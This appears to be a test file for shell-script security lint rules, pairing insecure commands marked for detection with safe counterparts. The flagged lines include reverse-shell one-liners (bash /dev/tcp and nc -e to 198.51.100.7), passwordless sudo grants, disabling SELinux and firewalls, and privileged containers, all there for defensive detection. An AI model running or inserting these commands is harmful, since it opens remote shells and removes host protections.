#!/bin/bash
# ruleid: shell-sudo-without-password
echo "deploy ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/deploy
# ruleid: shell-sudo-without-password
sed -i 's/^%wheel.*/%wheel ALL=(ALL) NOPASSWD:ALL/' /etc/sudoers
# ok: shell-sudo-without-password
echo "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app" > /etc/sudoers.d/deploy
# ok: shell-sudo-without-password
sudo -v
# ruleid: shell-search-path-current-directory
export PATH=.:$PATH
# ruleid: shell-search-path-current-directory
PATH="$PATH:."
# ruleid: shell-search-path-current-directory
PATH=/usr/local/bin::/usr/bin
# ok: shell-search-path-current-directory
export PATH="$HOME/.local/bin:$PATH"
# ok: shell-search-path-current-directory
PATH=/usr/sbin:/usr/bin:/sbin:/bin
# ruleid: shell-weak-cryptography
openssl enc -des-cbc -in plain -out sealed
# ruleid: shell-weak-cryptography
sum=$(openssl dgst -md5 app.tgz)
# ruleid: shell-weak-cryptography
openssl genrsa -out key.pem 1024
# ruleid: shell-weak-cryptography
ssh-keygen -t dsa -f deploy_key
# ruleid: shell-weak-cryptography
curl --tlsv1.0 https://old.example.org/
# ok: shell-weak-cryptography
openssl enc -aes-256-cbc -pbkdf2 -in plain -out sealed
# ok: shell-weak-cryptography
openssl genrsa -out key.pem 4096
# ok: shell-weak-cryptography
ssh-keygen -t ed25519 -f deploy_key
# ok: shell-weak-cryptography
openssl dgst -sha256 app.tgz
# ok: shell-weak-cryptography
curl --tlsv1.2 https://new.example.org/
# ruleid: shell-protection-off
setenforce 0
# ruleid: shell-protection-off
sudo ufw disable
# ruleid: shell-protection-off
systemctl disable --now firewalld
# ok: shell-protection-off
ufw allow 443/tcp
# ok: shell-protection-off
systemctl restart firewalld
# ruleid: shell-container-host-access
docker run --rm --privileged registry.example.org/builder:1.4
# ruleid: shell-container-host-access
sudo docker run -d -v /var/run/docker.sock:/var/run/docker.sock registry.example.org/agent:1.4
# ruleid: shell-container-host-access
podman run --pid=host --cap-add SYS_ADMIN registry.example.org/agent:1.4
# ok: shell-container-host-access
docker run --rm --cap-add NET_ADMIN -v "$PWD:/src" registry.example.org/builder:1.4
# ok: shell-container-host-access
docker run --rm -v /srv/data:/data registry.example.org/builder:1.4
# ruleid: shell-reverse-shell
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
# ruleid: shell-reverse-shell
nc 198.51.100.7 4444 -e /bin/sh
# ok: shell-reverse-shell
nc -z localhost 5432
# ok: shell-reverse-shell
bash -i
